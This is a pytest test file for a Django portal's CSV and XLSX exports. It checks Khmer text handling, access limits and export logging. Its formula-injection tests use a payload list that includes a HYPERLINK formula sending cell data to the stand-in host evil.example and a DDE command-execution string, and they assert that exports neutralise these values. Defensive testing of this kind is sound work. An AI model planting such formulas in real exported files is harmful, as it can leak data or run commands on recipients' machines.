import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from tests.factories import ActivityFactory, CommunityFactory, OrganizationFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def activities(community, organization_a):
    mine = ActivityFactory.create_batch(
        3, community=community, lead_organization=organization_a, status="done"
    )
    hidden = ActivityFactory(
        community=CommunityFactory(),
        lead_organization=OrganizationFactory(),
        title_km="សកម្មភាពសម្ងាត់",
    )
    return mine, hidden


def test_the_csv_has_a_bom_khmer_iso_dates_and_only_what_the_person_sees(
    client, member_a, activities
):
    client.force_login(member_a)
    response = client.get("/km/activities/export.csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert len(rows) == 4  # the header and three activities
    assert rows[0][3] == "ចំណងជើង (ខ្មែរ)"
    assert rows[1][3] == "កិច្ចប្រជុំពិភាក្សាអំពីសិទ្ធិស្ត្រី"
    assert rows[1][6] == "2026-03-08"
    assert "សកម្មភាពសម្ងាត់" not in body


def test_the_xlsx_opens_with_khmer_intact_and_follows_the_filters(
    client, member_a, community, organization_a, activities
):
    ActivityFactory(
        community=community, lead_organization=organization_a, status="planned", title_km="គម្រោង"
    )
    client.force_login(member_a)
    response = client.get("/km/activities/export.xlsx", {"status": "planned"})
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(workbook.active.values)
    assert len(rows) == 2
    assert rows[1][3] == "គម្រោង"


def test_a_visitor_is_sent_to_sign_in(client):
    assert client.get("/km/activities/export.csv").status_code == 302


# Formula injection ---------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def poisoned(admin, organization_a):
    """Every text a person types, in a community they named, each holding a formula."""
    from tests.factories import ObjectiveFactory, ParticipationFactory

    community = CommunityFactory(name_km=PAYLOADS[1], name_en=PAYLOADS[1])
    ParticipationFactory(community=community, organization=organization_a)
    organization_a.name_km = organization_a.name_en = PAYLOADS[2]
    organization_a.save()
    ObjectiveFactory(community=community, title_km=PAYLOADS[4])
    for payload in PAYLOADS:
        ActivityFactory(
            community=community,
            lead_organization=organization_a,
            status="done",
            title_km=payload,
            title_en=payload,
            place=payload,
            outcomes_km=payload,
            follow_up=payload,
            participants_total=20,
        )
    return community


def _xlsx(response):
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        ]
    return load_workbook(io.BytesIO(content)), sheets


def _texts(workbook):
    """Every cell's value, and the cells a spreadsheet program would compute."""
    values, formulas = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                values.append(cell.value)
                if cell.data_type == "f":
                    formulas.append(cell.coordinate)
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix  # Excel keeps it text when the cell is edited
    return values, formulas


def _typed(value: str) -> str:
    """A text as an .xlsx gives it back: XML reads a carriage return as a line feed."""
    return value.replace("\r", "\n")


@pytest.mark.parametrize(
    "url", ["/km/activities/export.xlsx", "/en/activities/export.xlsx", "/km/reports/export.xlsx"]
)
def test_no_xlsx_export_holds_a_formula_and_the_text_reads_as_typed(client, admin, poisoned, url):
    client.force_login(admin)
    workbook, sheets = _xlsx(client.get(url))
    assert sheets
    for xml in sheets:
        assert not re.search(r"<f[ >/]", xml)
    values, formulas = _texts(workbook)
    assert formulas == []
    expected = PAYLOADS if "activities" in url else PAYLOADS[1:3] + PAYLOADS[4:5]
    for payload in expected:
        assert _typed(payload) in values
    assert (20 if "activities" in url else 7 * 20) in values  # numbers stay numbers


def test_no_csv_export_holds_a_formula_and_the_text_reads_as_typed(client, admin, poisoned):
    client.force_login(admin)
    body = b"".join(client.get("/km/activities/export.csv").streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
    cells = [value for row in rows for value in row]
    assert not [value for value in cells if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for payload in PAYLOADS:
        assert f"'{payload}" in cells
    assert "20" in cells


def test_every_export_escapes_through_one_function():
    from cop_portal.core.exports import cell

    assert cell("=1+1") == "'=1+1"
    assert cell("ស្ត្រី = បុរស") == "ស្ត្រី = បុរស"  # only at the start
    assert cell(-2) == -2


def test_every_export_is_in_the_membership_log(client, facilitator, community):
    from members.models import MembershipEvent

    client.force_login(facilitator)
    client.get(f"/km/activities/export.csv?community={community.pk}&status=done")
    client.get("/km/activities/export.xlsx")
    client.get("/km/reports/export.xlsx")
    entries = list(MembershipEvent.objects.filter(action="exported").order_by("pk"))
    assert [entry.details["export"] for entry in entries] == [
        "activities.csv",
        "activities.xlsx",
        "voice-cop-report.xlsx",
    ]
    assert all(entry.actor == facilitator for entry in entries)
    assert entries[0].community == community
    assert entries[0].details["filters"] == {"community": community.slug, "status": "done"}
